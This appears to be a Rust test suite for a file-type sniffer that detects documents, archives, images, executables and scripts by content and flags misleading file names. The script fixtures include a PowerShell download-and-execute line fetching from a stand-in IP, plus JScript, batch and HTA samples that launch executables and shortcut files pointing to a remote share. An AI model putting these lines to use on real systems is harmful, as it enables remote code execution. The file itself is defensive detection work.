//! One test per kind of the foundation issue's list (PDF, OOXML, ODF, OLE, RTF, archives,
//! images, markup, mail, text charsets, executables, scripts, shortcuts): small files built
//! here byte by byte, sniffed by content, then sniffed again under a misleading name to check
//! that the name is only a claim (`kind.mismatch`).

use kiyome_core::{Charset, Kind, sniff};
use std::io::{Cursor, Write};

fn kind(d: &[u8]) -> Kind {
    sniff(d, None).kind
}

/// Sniffs `d` under `honest` (no mismatch) and as `report.txt` (a mismatch unless text).
fn check(d: &[u8], want: Kind, honest: &str) {
    let det = sniff(d, Some(honest));
    assert_eq!(det.kind, want, "{honest}");
    assert!(!det.is_mismatch(), "{honest}: honest name is a mismatch");
    let lie = sniff(d, Some("report.txt"));
    assert_eq!(lie.kind, want, "{honest} renamed report.txt");
    assert!(lie.is_mismatch(), "{honest} renamed .txt: no mismatch");
}

fn zip(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, data) in parts {
        w.start_file(*name, zip::write::SimpleFileOptions::default())
            .unwrap();
        w.write_all(data).unwrap();
    }
    w.finish().unwrap().into_inner()
}

fn content_types(ct: &str) -> Vec<u8> {
    format!(
        r#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/main.xml" ContentType="{ct}"/></Types>"#
    )
    .into_bytes()
}

#[test]
fn ooxml_kinds_by_main_content_type() {
    let table: &[(&str, Kind, &str)] = &[
        (
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            Kind::Docx,
            "a.docx",
        ),
        (
            "application/vnd.ms-word.document.macroEnabled.main+xml",
            Kind::Docm,
            "a.docm",
        ),
        (
            "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml",
            Kind::Dotx,
            "a.dotx",
        ),
        (
            "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
            Kind::Dotm,
            "a.dotm",
        ),
        (
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            Kind::Xlsx,
            "a.xlsx",
        ),
        (
            "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
            Kind::Xlsm,
            "a.xlsm",
        ),
        (
            "application/vnd.ms-excel.template.macroEnabled.main+xml",
            Kind::Xltm,
            "a.xltm",
        ),
        (
            "application/vnd.ms-excel.sheet.binary.macroEnabled.main",
            Kind::Xlsb,
            "a.xlsb",
        ),
        (
            "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
            Kind::Pptx,
            "a.pptx",
        ),
        (
            "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
            Kind::Pptm,
            "a.pptm",
        ),
        (
            "application/vnd.ms-powerpoint.template.macroEnabled.main+xml",
            Kind::Potm,
            "a.potm",
        ),
        (
            "application/vnd.ms-powerpoint.slideshow.macroEnabled.main+xml",
            Kind::Ppsm,
            "a.ppsm",
        ),
    ];
    for (ct, want, name) in table {
        let d = zip(&[
            ("[Content_Types].xml", &content_types(ct)),
            ("main.xml", b"<x/>"),
        ]);
        check(&d, *want, name);
    }
    // A docm named .docx: the macro-enabled content type wins over the name.
    let docm = zip(&[(
        "[Content_Types].xml",
        &content_types("application/vnd.ms-word.document.macroEnabled.main+xml"),
    )]);
    let det = sniff(&docm, Some("invoice.docx"));
    assert_eq!(det.kind, Kind::Docm);
    assert!(det.is_mismatch());
    // No known content type: the main part's name decides.
    let bare = zip(&[
        ("[Content_Types].xml", b"<Types/>"),
        ("xl/workbook.bin", b"\0"),
    ]);
    assert_eq!(kind(&bare), Kind::Xlsb);
}

#[test]
fn odf_kinds_by_mimetype() {
    for (mime, want, name) in [
        (
            "application/vnd.oasis.opendocument.text",
            Kind::Odt,
            "a.odt",
        ),
        (
            "application/vnd.oasis.opendocument.spreadsheet",
            Kind::Ods,
            "a.ods",
        ),
        (
            "application/vnd.oasis.opendocument.presentation",
            Kind::Odp,
            "a.odp",
        ),
    ] {
        let d = zip(&[("mimetype", mime.as_bytes()), ("content.xml", b"<x/>")]);
        check(&d, want, name);
    }
}

fn ole(streams: &[&str]) -> Vec<u8> {
    let mut cf = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    for s in streams {
        cf.create_stream(format!("/{s}"))
            .unwrap()
            .write_all(b"x")
            .unwrap();
    }
    cf.flush().unwrap();
    cf.into_inner().into_inner()
}

#[test]
fn ole_kinds_by_stream_names() {
    check(&ole(&["WordDocument", "1Table"]), Kind::Doc, "a.doc");
    check(&ole(&["Workbook"]), Kind::Xls, "a.xls");
    check(&ole(&["PowerPoint Document"]), Kind::Ppt, "a.ppt");
    check(&ole(&["__properties_version1.0"]), Kind::Msg, "a.msg");
    let enc = ole(&["EncryptionInfo", "EncryptedPackage"]);
    assert_eq!(kind(&enc), Kind::OoxmlEncrypted);
    assert!(sniff(&enc, Some("a.docx")).is_mismatch());
    assert_eq!(kind(&ole(&["Other"])), Kind::Ole);
}

#[test]
fn rtf_and_pdf() {
    check(b"{\\rtf1\\ansi\\ansicpg932 text}", Kind::Rtf, "a.rtf");
    check(b"%PDF-1.7\n1 0 obj<<>>endobj\n", Kind::Pdf, "a.pdf");
}

/// A POSIX ustar header for one empty file, with a valid checksum.
fn tar_header(magic: bool) -> Vec<u8> {
    let mut h = vec![0u8; 512];
    h[..5].copy_from_slice(b"a.txt");
    h[100..107].copy_from_slice(b"0000644");
    h[124..135].copy_from_slice(b"00000000000");
    h[136..147].copy_from_slice(b"00000000000");
    h[156] = b'0';
    if magic {
        h[257..263].copy_from_slice(b"ustar\0");
        h[263..265].copy_from_slice(b"00");
    }
    h[148..156].copy_from_slice(b"        ");
    let sum: u32 = h.iter().map(|b| *b as u32).sum();
    h[148..155].copy_from_slice(format!("{sum:06o}\0").as_bytes());
    h.extend_from_slice(&[0u8; 1024]);
    h
}

#[test]
fn archives() {
    check(&zip(&[("a.txt", b"hello")]), Kind::Zip, "a.zip");
    check(
        &zip(&[("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\n")]),
        Kind::Jar,
        "a.jar",
    );
    check(&[0x1F, 0x8B, 0x08, 0, 0, 0, 0, 0, 0, 3], Kind::Gzip, "a.gz");
    check(b"7z\xBC\xAF\x27\x1C\x00\x04rest", Kind::SevenZip, "a.7z");
    check(b"Rar!\x1A\x07\x00\xCF\x90\x73\0\0", Kind::Rar, "a.rar");
    check(b"Rar!\x1A\x07\x01\x00rest", Kind::Rar, "a.rar");
    check(&tar_header(true), Kind::Tar, "a.tar");
    // Old (v7) tar without the ustar magic: recognised by its header checksum.
    assert_eq!(kind(&tar_header(false)), Kind::Tar);
    // A tar inside a .tar.gz claim is consistent (gzip → tar after decompression).
    assert!(!sniff(&tar_header(true), Some("a.tgz")).is_mismatch());
}

fn bmp() -> Vec<u8> {
    let mut d = b"BM".to_vec();
    d.extend_from_slice(&58u32.to_le_bytes()); // file size
    d.extend_from_slice(&[0; 4]);
    d.extend_from_slice(&54u32.to_le_bytes()); // pixel offset
    d.extend_from_slice(&40u32.to_le_bytes()); // BITMAPINFOHEADER
    d.extend_from_slice(&1i32.to_le_bytes());
    d.extend_from_slice(&1i32.to_le_bytes());
    d.extend_from_slice(&1u16.to_le_bytes());
    d.extend_from_slice(&24u16.to_le_bytes());
    d.extend_from_slice(&[0; 24]);
    d.extend_from_slice(&[0xFF, 0, 0, 0]);
    d
}

#[test]
fn images() {
    check(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", Kind::Png, "a.png");
    check(b"\xFF\xD8\xFF\xE0\0\x10JFIF\0", Kind::Jpeg, "a.jpg");
    check(b"GIF87a\x01\0\x01\0", Kind::Gif, "a.gif");
    check(b"II*\0\x08\0\0\0", Kind::Tiff, "a.tif");
    check(b"MM\0*\0\0\0\x08", Kind::Tiff, "a.tiff");
    check(b"RIFF\x24\0\0\0WEBPVP8 ", Kind::Webp, "a.webp");
    check(&bmp(), Kind::Bmp, "a.bmp");
    check(b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", Kind::Heic, "a.heic");
    check(
        b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf",
        Kind::Avif,
        "a.avif",
    );
    // "BM" followed by text is not a bitmap.
    assert_ne!(
        kind(b"BMW drivers meeting notes, room 4, agenda attached"),
        Kind::Bmp
    );
    let svg = b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>";
    let det = sniff(svg, Some("logo.png"));
    assert_eq!(det.kind, Kind::Svg);
    assert!(det.is_mismatch());
}

#[test]
fn executables() {
    check(b"MZ\x90\0\x03\0\0\0", Kind::Pe, "a.exe");
    check(b"\x7FELF\x02\x01\x01\0", Kind::Elf, "a.so");
    for magic in [
        &[0xFE, 0xED, 0xFA, 0xCE][..],
        &[0xFE, 0xED, 0xFA, 0xCF],
        &[0xCE, 0xFA, 0xED, 0xFE],
        &[0xCF, 0xFA, 0xED, 0xFE],
        &[0xCA, 0xFE, 0xBA, 0xBE],
    ] {
        let mut d = magic.to_vec();
        d.extend_from_slice(&[0x07, 0, 0, 0x01, 0x03, 0, 0, 0]);
        check(&d, Kind::MachO, "a.dylib");
    }
}

#[test]
fn markup_and_mail() {
    check(
        b"<!DOCTYPE html><html><body>x</body></html>",
        Kind::Html,
        "a.html",
    );
    check(b"<?xml version=\"1.0\"?><root/>", Kind::Xml, "a.xml");
    let mail = b"From: =?ISO-2022-JP?B?GyRCOzNFRBsoQg==?= <a@example.jp>\r\nTo: b@example.jp\r\nSubject: =?ISO-2022-JP?B?GyRCJDMkcyRLJEEkTxsoQg==?=\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=ISO-2022-JP\r\n\r\n\x1b$B$3$s$K$A$O\x1b(B\r\n";
    check(mail, Kind::Eml, "a.eml");
}

#[test]
fn text_charsets() {
    let ja = "本日は晴天なり。会議は午後三時から第二会議室で行います。資料を添付します。";
    let cases: Vec<(Vec<u8>, Charset)> = vec![
        (ja.as_bytes().to_vec(), Charset::Utf8),
        (
            [&[0xFF, 0xFE][..], &utf16(ja, false)].concat(),
            Charset::Utf16le,
        ),
        (
            [&[0xFE, 0xFF][..], &utf16(ja, true)].concat(),
            Charset::Utf16be,
        ),
        (
            utf16("plain English text in UTF-16", false),
            Charset::Utf16le,
        ),
        (
            encoding_rs::SHIFT_JIS.encode(ja).0.into_owned(),
            Charset::ShiftJis,
        ),
        (
            encoding_rs::EUC_JP.encode(ja).0.into_owned(),
            Charset::EucJp,
        ),
        (
            encoding_rs::ISO_2022_JP.encode(ja).0.into_owned(),
            Charset::Iso2022Jp,
        ),
    ];
    for (bytes, cs) in cases {
        let det = sniff(&bytes, Some("memo.txt"));
        assert_eq!(det.kind, Kind::Text, "{cs:?}");
        assert_eq!(det.charset, Some(cs));
        assert!(!det.is_mismatch());
    }
    let csv = "氏名,住所\n山田,東京都\n";
    let det = sniff(&encoding_rs::SHIFT_JIS.encode(csv).0, Some("list.csv"));
    assert_eq!(
        (det.kind, det.charset),
        (Kind::Csv, Some(Charset::ShiftJis))
    );
}

fn utf16(s: &str, be: bool) -> Vec<u8> {
    s.encode_utf16()
        .flat_map(|u| if be { u.to_be_bytes() } else { u.to_le_bytes() })
        .collect()
}

const PS1: &str = "$ErrorActionPreference = 'SilentlyContinue'\r\n$u = 'http://198.51.100.7/p.ps1'\r\nIEX (New-Object Net.WebClient).DownloadString($u)\r\n";
const VBS: &str = "Dim sh\r\nSet sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"cmd /c calc.exe\", 0, False\r\n";
const JS: &str = "var sh = new ActiveXObject(\"WScript.Shell\");\r\nvar p = sh.ExpandEnvironmentStrings(\"%TEMP%\") + \"\\\\a.exe\";\r\nsh.Run(p, 0);\r\n";
const BAT: &str = "@echo off\r\ncd /d %~dp0\r\nstart \"\" /b payload.exe\r\nexit /b 0\r\n";

#[test]
fn scripts_by_content_whatever_the_name() {
    for (text, want, honest) in [
        (PS1, Kind::Ps1, "a.ps1"),
        (VBS, Kind::Vbs, "a.vbs"),
        (JS, Kind::Js, "a.js"),
        (BAT, Kind::Bat, "a.bat"),
    ] {
        check(text.as_bytes(), want, honest);
        // Without a name, and renamed .csv, the content still decides.
        assert_eq!(kind(text.as_bytes()), want);
        assert!(sniff(text.as_bytes(), Some("list.csv")).is_mismatch());
    }
    // A .cmd name is a batch claim.
    assert!(!sniff(BAT.as_bytes(), Some("a.cmd")).is_mismatch());
    // PowerShell saved as UTF-16LE with a BOM (the PowerShell ISE default).
    let wide = [&[0xFF, 0xFE][..], &utf16(PS1, false)].concat();
    let det = sniff(&wide, Some("notes.txt"));
    assert_eq!((det.kind, det.charset), (Kind::Ps1, Some(Charset::Utf16le)));
    assert!(det.is_mismatch());
    // Shift_JIS batch with Japanese echo text.
    let sjis = encoding_rs::SHIFT_JIS
        .encode("@echo off\r\necho 処理を開始します\r\ncopy /y a.dll %APPDATA%\\\r\n")
        .0
        .into_owned();
    assert_eq!(kind(&sjis), Kind::Bat);
}

#[test]
fn hta_wsf_and_shortcuts() {
    check(
        b"<html><head><hta:application id=\"x\"/><script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"calc\"</script></head></html>",
        Kind::Hta,
        "a.hta",
    );
    check(
        b"<?xml version=\"1.0\"?>\r\n<job id=\"a\"><script language=\"JScript\">WScript.Echo(1);</script></job>",
        Kind::Wsf,
        "a.wsf",
    );
    check(
        b"<?XML version=\"1.0\"?>\r\n<scriptlet><registration progid=\"x\"/><script language=\"JScript\"></script></scriptlet>",
        Kind::Wsf,
        "a.sct",
    );
    check(
        b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xC0\0\0\0\0\0\0\x46",
        Kind::Lnk,
        "a.lnk",
    );
    check(
        b"[InternetShortcut]\r\nURL=file://198.51.100.7/share/a.exe\r\nIconIndex=0\r\n",
        Kind::Lnk,
        "a.url",
    );
    check(
        b"[Shell]\r\nCommand=2\r\nIconFile=\\\\198.51.100.7\\share\\icon.ico\r\n",
        Kind::Lnk,
        "a.scf",
    );
}
